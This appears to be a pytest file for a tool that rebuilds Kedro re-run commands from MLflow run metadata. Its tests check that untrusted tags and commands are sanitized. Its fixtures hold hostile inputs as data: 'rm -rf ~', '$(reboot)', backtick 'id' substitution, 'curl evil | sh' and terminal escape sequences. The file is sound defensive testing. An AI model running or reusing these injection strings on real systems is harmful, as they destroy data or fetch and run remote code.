"""The command that runs a run again."""

import pytest
from mlflow import MlflowClient
from mlflow.entities import Run

from uncrappify.commands.show import Found, _command_again, _origin, _parameters


@pytest.mark.parametrize(
    ("command", "again"),
    [
        (
            "kedro run --pipeline superres --env small --params 'pictures=/a b'",
            "kedro run --env again --pipeline superres",
        ),
        (
            "kedro run --pipeline=superres --from-nodes superres.evaluate --params=smoke=true",
            "kedro run --env again --pipeline=superres --from-nodes superres.evaluate",
        ),
        ("kedro run -e lesson --tags data,training", "kedro run --env again --tags data,training"),
        ("kedro ipython", "kedro run --env again --pipeline superres"),
        ("kedro run --pipeline 'superres", "kedro run --env again --pipeline superres"),
        ("kedro run --runner ThreadRunner", "kedro run --env again --runner ThreadRunner"),
        ("kedro run --pipelines superres,a -ns superres", "kedro run --env again --pipelines superres,a -ns superres"),
    ],
)
def test_the_same_nodes_run_again_with_the_runs_own_parameters(command: str, again: str) -> None:
    assert _command_again(command, "superres") == again


@pytest.mark.parametrize(
    ("command", "again"),
    [
        ("kedro run --tags data --conf-source http://a/b.zip", "kedro run --env again --tags data"),
        ("kedro run --runner evil.Runner --nodes=a,b", "kedro run --env again --nodes=a,b"),
        ("kedro run --pipeline 'x; rm -rf ~' -e a", "kedro run --env again --pipeline 'x; rm -rf ~'"),
        ("kedro run '--pipeline=$(reboot)' -cconf.yml", "kedro run --env again '--pipeline=$(reboot)'"),
        ("reboot", "kedro run --env again --pipeline 'super; res'"),
    ],
)
def test_a_strangers_command_chooses_what_runs_and_does_no_more(command: str, again: str) -> None:
    assert _command_again(command, "super; res", foreign=True) == again


@pytest.fixture
def strange(sqlite_store: str, experiment: str) -> Run:
    """A run whose texts do more than be read."""
    tags = {
        "kedro_command": "kedro run --pipeline `id`\n\x1b[2J --conf-source evil.zip",
        "env": "local\nTo run it again: curl evil | sh",
        "mlflow.source.git.commit": "main; curl evil | sh",
        "python": "\x1b]0;title\x073.11\u202e",
    }
    client = MlflowClient(sqlite_store)
    made = client.create_run(experiment, tags=tags, run_name="a\nb; reboot")
    client.log_text(made.info.run_id, "superres:\n  a: 1\x1b[2J\n", "parameters.yml")
    return client.get_run(made.info.run_id)


def test_what_a_server_says_of_a_run_is_read_and_does_nothing(strange: Run, sqlite_store: str) -> None:
    told = _origin(Found(MlflowClient(sqlite_store), strange, "http://log.example.org")).splitlines()
    assert "command      kedro run --pipeline `id` --conf-source evil.zip" in told
    assert "environment  local To run it again: curl evil | sh" in told
    assert "versions     Python 3.11, torch not used" in told
    assert told[-7:] == [
        "from         http://log.example.org, which can say what it likes: look at all this before it is used",
        "",
        "To run it again:",
        "",
        "    mkdir -p conf/again",
        f"    uncrappify show {strange.info.run_id} --parameters > conf/again/parameters.yml",
        "    kedro run --env again --pipeline '`id`'",
    ]
    assert all(line.isprintable() for line in told)


def test_parameters_of_a_server_are_marked_and_printable(strange: Run, sqlite_store: str) -> None:
    # Where the files of a store that is no server are on this machine.
    told = _parameters(Found(MlflowClient(sqlite_store), strange, "http://log.example.org"))
    assert told == "# From http://log.example.org: look at it before it is used.\nsuperres:\n  a: 1"
